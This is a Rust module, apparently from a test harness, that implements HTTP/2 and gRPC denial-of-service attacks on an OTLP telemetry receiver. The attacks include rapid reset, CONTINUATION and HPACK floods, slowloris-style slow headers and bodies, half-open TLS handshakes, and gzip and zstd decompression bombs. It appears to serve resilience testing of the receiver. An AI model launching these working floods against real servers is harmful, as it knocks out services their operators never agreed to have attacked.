//! The attacks. Each is one loop of one attacker, which lasts as long as it is allowed to; an
//! attacker that is disconnected starts again.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use anyhow::Result;
use futures_util::future::BoxFuture;
use tokio::time::{Instant, sleep};

use super::wire::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, Raw, SETTINGS, export,
    frame, message,
};

/// The parameters of an attacker.
#[derive(Clone)]
pub(super) struct Target {
    pub(super) address: String,
    pub(super) until: Instant,
    pub(super) bombs: Bombs,
    /// The number of connections that attackers have had: an attack that reaches nothing proves
    /// nothing.
    pub(super) reached: Arc<AtomicUsize>,
}

/// Compressed zeros.
#[derive(Clone)]
pub(super) struct Bombs {
    /// They inflate to more than any request may have.
    pub(super) gzip: Arc<[u8]>,
    pub(super) zstd: Arc<[u8]>,
    /// They inflate to as much as a request may have.
    pub(super) gzip_that_fits: Arc<[u8]>,
    pub(super) zstd_that_fits: Arc<[u8]>,
}

impl Target {
    pub(super) fn is_on(&self) -> bool {
        Instant::now() < self.until
    }

    fn count(&self, connected: Result<Raw>) -> Result<Raw> {
        self.reached
            .fetch_add(usize::from(connected.is_ok()), Ordering::Relaxed);
        connected
    }

    pub(super) async fn silent(&self) -> Result<Raw> {
        self.count(Raw::silent(&self.address).await)
    }

    /// Waits until the attack is over.
    pub(super) async fn wait(&self) {
        tokio::time::sleep_until(self.until).await;
    }

    async fn connect(&self) -> Result<Raw> {
        self.count(Raw::connect(&self.address).await)
    }

    async fn with(&self, settings: &[u8]) -> Result<Raw> {
        self.count(Raw::with(&self.address, settings).await)
    }

    async fn ready(&self) -> Result<Raw> {
        self.count(Raw::ready(&self.address).await)
    }
}

/// One round of an attack, until its connection ends.
pub(super) type Round = fn(Target) -> BoxFuture<'static, Result<()>>;

/// An attack: its round, and the number of concurrent attackers.
pub(super) struct Attack {
    pub(super) name: &'static str,
    pub(super) attackers: usize,
    /// True if the receiver requires TLS.
    pub(super) over_tls: bool,
    /// The port that is attacked.
    pub(super) port: &'static str,
    pub(super) round: Round,
}

macro_rules! attack {
    ($name:literal, $attackers:literal, $round:ident) => {
        Attack {
            name: $name,
            attackers: $attackers,
            over_tls: false,
            port: "otlp",
            round: |target| Box::pin($round(target)),
        }
    };
}

/// Returns the attacks on the port of gRPC.
pub(super) fn all() -> Vec<Attack> {
    vec![
        attack!("rapid reset", 4, rapid_reset),
        attack!("CONTINUATION flood", 4, continuations),
        attack!("HPACK bomb", 4, hpack),
        attack!("empty DATA flood", 4, empty_data),
        attack!("SETTINGS flood", 4, settings),
        attack!("PING flood", 4, pings),
        attack!("idle connections", 100, idle),
        attack!("half-open connections", 100, half_open),
        Attack {
            over_tls: true,
            ..attack!("half-open handshakes", 100, handshakes)
        },
        attack!("slow headers", 500, slow_headers),
        attack!("slow bodies", 10, slow_bodies),
        attack!("lengths announced", 100, announced),
        attack!("answers not taken", 20, untaken),
        attack!("gzip bombs", 10, gzip_bombs),
        attack!("zstd bombs", 10, zstd_bombs),
        attack!("gzip bombs that fit", 10, gzip_that_fits),
        attack!("zstd bombs that fit", 10, zstd_that_fits),
    ]
}

/// Returns those of them that need no gRPC, on the port of HTTP, which speaks HTTP/2, too.
pub(super) fn on_http() -> Vec<Attack> {
    let grpc_only = ["slow bodies", "lengths announced", "answers not taken"];
    let mut all = all();
    all.retain(|attack| !attack.name.contains("bombs") && !grpc_only.contains(&attack.name));
    all.iter_mut().for_each(|attack| attack.port = "otlp http");
    all
}

/// Sends a request and its reset, again and again.
async fn rapid_reset(target: Target) -> Result<()> {
    let mut raw = target.connect().await?;
    let block = export(None);
    while target.is_on() {
        let mut wire = Vec::new();
        for _ in 0..50 {
            let stream = raw.stream();
            wire.extend(frame(HEADERS, END_HEADERS, stream, &block));
            wire.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
        }
        raw.send(&wire).await?;
        raw.skim();
    }
    Ok(())
}

/// Sends headers without end.
async fn continuations(target: Target) -> Result<()> {
    let mut raw = target.connect().await?;
    let stream = raw.stream();
    raw.send(&frame(HEADERS, 0, stream, &export(None))).await?;
    // A header of 100 bytes, 150 times in each frame.
    let one = [&[0, 1, b'a', 100][..], &[b'b'; 100]].concat();
    let more = frame(CONTINUATION, 0, stream, &one.repeat(150));
    while target.is_on() {
        raw.send(&more).await?;
    }
    Ok(())
}

/// Sends a header of 4,000 bytes, which is stored, and then names it in one byte each.
async fn hpack(target: Target) -> Result<()> {
    let mut raw = target.connect().await?;
    // The length 4000, as an integer with a prefix of seven bits.
    let mut bomb = [&[0x40, 1, b'a', 0x7f, 0xa1, 0x1e][..], &[b'b'; 4000]].concat();
    bomb.extend(std::iter::repeat_n(0xbe, 12_000));
    while target.is_on() {
        let stream = raw.stream();
        let block = [export(None), bomb.clone()].concat();
        raw.send(&frame(HEADERS, END_HEADERS | END_STREAM, stream, &block))
            .await?;
        raw.skim();
    }
    Ok(())
}

async fn empty_data(target: Target) -> Result<()> {
    let mut raw = target.connect().await?;
    let stream = raw.stream();
    raw.send(&frame(HEADERS, END_HEADERS, stream, &export(None)))
        .await?;
    repeat(raw, target, &frame(DATA, 0, stream, &[])).await
}

async fn settings(target: Target) -> Result<()> {
    let raw = target.connect().await?;
    // The initial window, which the receiver must apply to every stream.
    repeat(raw, target, &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255])).await
}

async fn pings(target: Target) -> Result<()> {
    let raw = target.connect().await?;
    repeat(raw, target, &frame(PING, 0, 0, &[7; 8])).await
}

async fn repeat(mut raw: Raw, target: Target, frame: &[u8]) -> Result<()> {
    let many = frame.repeat(500);
    while target.is_on() {
        raw.send(&many).await?;
        raw.skim();
    }
    Ok(())
}

/// Opens a hundred connections that do nothing.
async fn idle(target: Target) -> Result<()> {
    let mut all = Vec::new();
    for _ in 0..100 {
        if let Ok(raw) = target.connect().await {
            all.push(raw);
        }
    }
    target.wait().await;
    Ok(())
}

/// Opens connections that never finish naming their protocol.
async fn half_open(target: Target) -> Result<()> {
    let mut all = Vec::new();
    for _ in 0..10 {
        let mut raw = target.silent().await?;
        raw.send(b"PRI * HT").await?;
        all.push(raw);
    }
    target.wait().await;
    Ok(())
}

/// Sends the beginning of a client hello. The rest never comes.
async fn handshakes(target: Target) -> Result<()> {
    // A handshake record of 512 bytes, which contains a hello of 508, of version 1.2.
    let hello = [0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3];
    let mut all = Vec::new();
    for _ in 0..10 {
        let mut raw = target.silent().await?;
        raw.send(&hello).await?;
        all.push(raw);
    }
    target.wait().await;
    Ok(())
}

async fn slow_headers(target: Target) -> Result<()> {
    let mut raw = target.connect().await?;
    let stream = raw.stream();
    for byte in frame(HEADERS, END_HEADERS, stream, &export(None)) {
        if target.is_on() {
            raw.send(&[byte]).await?;
            pause().await;
        }
    }
    Ok(())
}

/// Opens a hundred requests, each with a byte now and then.
async fn slow_bodies(target: Target) -> Result<()> {
    let mut raw = target.connect().await?;
    let streams: Vec<u32> = (0..100).map(|_| raw.stream()).collect();
    let start = message(false, &[0; 1000]);
    for stream in &streams {
        let opening = frame(HEADERS, END_HEADERS, *stream, &export(None));
        raw.send(&opening).await?;
    }
    for byte in start {
        for stream in &streams {
            raw.send(&frame(DATA, 0, *stream, &[byte])).await?;
        }
        raw.skim();
        if !target.is_on() {
            break;
        }
        pause().await;
    }
    Ok(())
}

/// Announces a hundred requests of 64 MiB each, and sends none of their bytes.
async fn announced(target: Target) -> Result<()> {
    let mut raw = target.connect().await?;
    for _ in 0..100 {
        let stream = raw.stream();
        let mut wire = frame(HEADERS, END_HEADERS, stream, &export(None));
        wire.extend(frame(DATA, 0, stream, &[0, 4, 0, 0, 0]));
        raw.send(&wire).await?;
    }
    target.wait().await;
    Ok(())
}

/// Sends requests whose answers never get a window.
async fn untaken(target: Target) -> Result<()> {
    let mut raw = target.with(&[0, 4, 0, 0, 0, 0]).await?;
    while target.is_on() {
        let mut wire = Vec::new();
        for _ in 0..100 {
            let stream = raw.stream();
            wire.extend(frame(HEADERS, END_HEADERS, stream, &export(None)));
            wire.extend(frame(DATA, END_STREAM, stream, &message(false, &[])));
        }
        raw.send(&wire).await?;
        pause().await;
    }
    Ok(())
}

async fn gzip_bombs(target: Target) -> Result<()> {
    let bomb = Arc::clone(&target.bombs.gzip);
    bombs(target, "gzip", &bomb).await
}

async fn zstd_bombs(target: Target) -> Result<()> {
    let bomb = Arc::clone(&target.bombs.zstd);
    bombs(target, "zstd", &bomb).await
}

async fn gzip_that_fits(target: Target) -> Result<()> {
    let bomb = Arc::clone(&target.bombs.gzip_that_fits);
    bombs(target, "gzip", &bomb).await
}

async fn zstd_that_fits(target: Target) -> Result<()> {
    let bomb = Arc::clone(&target.bombs.zstd_that_fits);
    bombs(target, "zstd", &bomb).await
}

/// Sends ten bombs at once, and again when they are answered.
async fn bombs(target: Target, encoding: &str, bomb: &[u8]) -> Result<()> {
    let block = export(Some(encoding));
    let body = message(true, bomb);
    while target.is_on() {
        let mut raw = target.ready().await?;
        for _ in 0..10 {
            let stream = raw.stream();
            raw.send(&frame(HEADERS, END_HEADERS, stream, &block))
                .await?;
            for piece in body.chunks(16 * 1024) {
                raw.send(&frame(DATA, 0, stream, piece)).await?;
                raw.skim();
            }
            raw.send(&frame(DATA, END_STREAM, stream, &[])).await?;
        }
        pause().await;
        raw.skim();
    }
    Ok(())
}

/// Paces a slow attacker. It does not wait for anything.
async fn pause() {
    sleep(Duration::from_millis(100)).await;
}
